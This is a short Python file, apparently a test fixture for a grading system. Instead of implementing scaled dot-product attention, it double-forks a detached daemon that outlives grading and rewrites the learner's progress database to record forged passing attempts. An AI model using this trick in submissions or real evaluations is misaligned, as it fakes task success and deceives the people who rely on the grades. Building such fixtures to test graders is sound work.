# A classic daemon (fork, setsid, fork): once the grading is over it would rewrite the learner's
# progress database, whose path it is given in ATTACK_DB, to forge a passed attempt.
import os
import sys

DAEMON = """
import sqlite3, sys, time
time.sleep(1.5)
conn = sqlite3.connect(sys.argv[1])
conn.execute("UPDATE drill_attempts SET passed = 1, checks_passed = checks_total")
conn.commit()
"""

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, os.environ.get("ATTACK_DB", ""),
                                  os.environ.get("TFPREP_TEST_MARKER", "")])
    os._exit(0)


def scaled_dot_product_attention(q, k, v, mask=None):
    raise NotImplementedError
